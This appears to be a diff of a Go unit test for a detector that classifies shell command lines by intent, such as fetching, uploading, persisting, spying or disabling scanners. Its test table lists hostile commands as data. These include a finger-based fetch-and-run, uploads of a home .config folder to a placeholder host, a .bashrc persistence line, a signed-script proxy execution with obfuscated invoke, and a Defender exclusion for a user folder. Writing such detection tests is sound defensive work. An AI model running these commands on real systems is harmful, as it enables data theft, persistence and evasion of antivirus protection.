@@ -22,7 +22,7 @@ func TestDeedsByMeaning(t *testing.T) {
 		{"linux", `curl -s http://0xC6336412/z`, "fetch   198.51.100.18 curl"},
 		{"linux", `curl -s http://4711/z`, "fetch   4711 curl"},
 		{"linux", `nc -zv zoom.us 443`, ""},
-		{"linux", `scp /tmp/a.tgz me@a.invalid:in/`, "pack me@a.invalid:in/a.tgz /tmp/a.tgz  copy; upload /tmp/a.tgz  a.invalid scp"},
+		{"linux", `scp /tmp/a.tgz me@a.invalid:in/`, "pack me@a.invalid:in/ /tmp/a.tgz  copy; upload /tmp/a.tgz  a.invalid scp"},
 		{"linux", `openssl enc -d -in /tmp/e -out /tmp/e.sh`, "encoded /tmp/e.sh /tmp/e  openssl"},
 		{"linux", `openssl enc -aes-128-cbc -in /tmp/e.tar -out /tmp/e.bin`, "pack /tmp/e.bin /tmp/e.tar  openssl"},
 		{"linux", `sh -c 'echo "nohup ~/.x/a &" >> ~/.bashrc'`, "persist ~/.bashrc ~/.x/a  profile"},
@@ -63,6 +63,13 @@ func TestDeedsByMeaning(t *testing.T) {
 		{"darwin", `/Users/ana/Library/x/ff -f avfoundation -i :0 /Users/ana/.x/m.ogg`, "run /Users/ana/Library/x/ff   program; spy /Users/ana/.x/m.ogg   microphone"},
 		{"windows", `C:\ProgramData\x\fd.exe -m 256 -nographic -drive file=C:\ProgramData\x\g.qcow2,if=virtio`, `run C:\ProgramData\x\fd.exe   program; hide C:\ProgramData\x\g.qcow2   machine`},
 		{"windows", `setx DOTNET_STARTUP_HOOKS C:\Users\ana\h.dll`, `persist C:\Users\ana\h.dll   environment hook`},
+		{"windows", `cmd /c "for /f %i in ('finger a@b.invalid') do call %i"`, "fetch and run   b.invalid finger"},
+		{"windows", `cmd /c "for /f %i in ('curl -s https://b.invalid') do echo %i"`, ""},
+		{"windows", `wscript C:\Windows\System32\SyncAppvPublishingServer.vbs "n; &(gal i*x) 'b.invalid'"`, "hide    detour; encoded    split"},
+		{"windows", `SyncAppvPublishingServer.exe 1`, ""},
+		{"linux", `rsync -az /home/ana/.config ana@b.invalid:backup/`, "pack ana@b.invalid:backup/ /home/ana/.config  copy; upload /home/ana/.config  b.invalid rsync"},
+		{"windows", `powershell -c "Add-MpPreference -ExclusionPath 'C:\Program Files\Praxis'"`, ""},
+		{"windows", `powershell -c "Add-MpPreference -ExclusionPath 'C:\Users\ana'"`, "blind scanner    defender"},
 		{"windows", `setx NODE_OPTIONS --max-old-space-size=4096`, ""},
 	} {
 		words := Split(tc.system, tc.line)
